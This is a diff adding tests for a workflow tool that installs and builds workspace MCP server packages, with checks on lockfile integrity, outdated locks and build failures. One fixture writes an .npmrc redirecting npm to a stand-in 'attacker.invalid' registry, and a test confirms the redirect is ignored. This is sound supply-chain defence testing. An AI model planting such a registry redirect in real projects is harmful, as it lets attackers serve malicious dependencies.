@@ -59,6 +59,103 @@ const packages: Published[] = [
   server('with-scripts', { dependencies: { nosy: '1.0.0' } }),
 ];
 
+/** A package of the workspace that has to be built, with a dependency. */
+const localPackage = (more: Record<string, unknown> = {}) => ({
+  'package.json': JSON.stringify({
+    name: 'local-server',
+    version: '0.3.0',
+    bin: 'dist/server.mjs',
+    scripts: { build: 'node build.cjs' },
+    dependencies: { plain: '1.0.0' },
+    ...more,
+  }),
+  'build.cjs': `const fs = require('node:fs'); require.resolve('plain/package.json'); fs.mkdirSync('dist'); fs.cpSync('src', 'dist', { recursive: true });`,
+  'src/server.mjs': source('healthy.mjs'),
+  'src/lib.mjs': source('lib.mjs'),
+  // Would send npm elsewhere, and come with a pull request.
+  '.npmrc': 'registry=http://attacker.invalid/\n',
+});
+const lockFile = (integrity: string, locked = '1.0.0') =>
+  JSON.stringify({
+    name: 'local-server',
+    version: '0.3.0',
+    lockfileVersion: 3,
+    requires: true,
+    packages: {
+      '': {
+        name: 'local-server',
+        version: '0.3.0',
+        dependencies: { plain: locked },
+        bin: { 'local-server': 'dist/server.mjs' },
+      },
+      'node_modules/plain': {
+        version: locked,
+        resolved: `https://registry.example/plain/-/plain-${locked}.tgz`,
+        integrity,
+        bin: { plain: 'server.mjs' },
+      },
+    },
+  });
+const below = (folder: string, files: Record<string, string>) =>
+  Object.fromEntries(Object.entries(files).map(([name, text]) => [`${folder}/${name}`, text]));
+
+describe('packages of the workspace', () => {
+  let registry: Registry;
+  let job: Job;
+  let main: Stage;
+  let result: WorkflowResult;
+  const find = (name: string) => result.servers.find((each) => each.name === name);
+
+  beforeAll(async () => {
+    registry = await startRegistry([server('plain')]);
+    const wrong = `sha512-${Buffer.alloc(64).toString('base64')}`;
+    const folders = {
+      built: localPackage(),
+      locked: { ...localPackage(), 'package-lock.json': lockFile(registry.integrityOf('plain')) },
+      tampered: { ...localPackage(), 'package-lock.json': lockFile(wrong) },
+      outdated: { ...localPackage(), 'package-lock.json': lockFile(registry.integrityOf('plain'), '0.9.0') },
+      unbuildable: localPackage({ scripts: { build: 'node --eval "process.exit(7)"' } }),
+    };
+    const servers = Object.fromEntries(Object.keys(folders).map((name) => [name, { source: `./${name}` }]));
+    job = createJob({
+      files: {
+        '.github/mcp-workflow.yml': stringify({ version: 1, servers }),
+        ...Object.assign({}, ...Object.entries(folders).map(([name, files]) => below(name, files))),
+      },
+      env: { npm_config_registry: registry.url },
+    });
+    main = await job.main();
+    result = WorkflowResult.parse(job.readResult());
+  });
+  afterAll(async () => {
+    await registry.close();
+    job.remove();
+  });
+
+  it.each(['built', 'locked'])('%s is installed, built without network, and started by its bin', (name) => {
+    expect(find(name)?.reason).toBeNull();
+    expect(find(name)).toMatchObject({
+      state: 'passed',
+      source: { resolved: { name: 'local-server', version: '0.3.0', digest: expect.stringMatching(/^sha256:/u) } },
+    });
+    expect(find(name)?.tools.map((tool) => tool.name)).toContain('echo');
+  });
+
+  it.each([
+    ['tampered', /integrity/u],
+    ['outdated', /lock file/u],
+    ['unbuildable', /`npm run build` failed with exit code 7/u],
+  ])('%s is install_failed and says why', (name, advice) => {
+    expect(find(name)).toMatchObject({ state: 'failed', startup: { outcome: 'install_failed' } });
+    expect(find(name)?.startup?.advice).toMatch(advice);
+  });
+
+  it('an .npmrc of the workspace redirects nothing', () => {
+    expect(main.log).not.toContain('attacker.invalid');
+    expect(registry.requests.map(({ line }) => line)).toContain('GET /plain/-/plain-1.0.0.tgz');
+  });
+});
+
 describe('packages from a registry', () => {
   let registry: Registry;
   let job: Job;
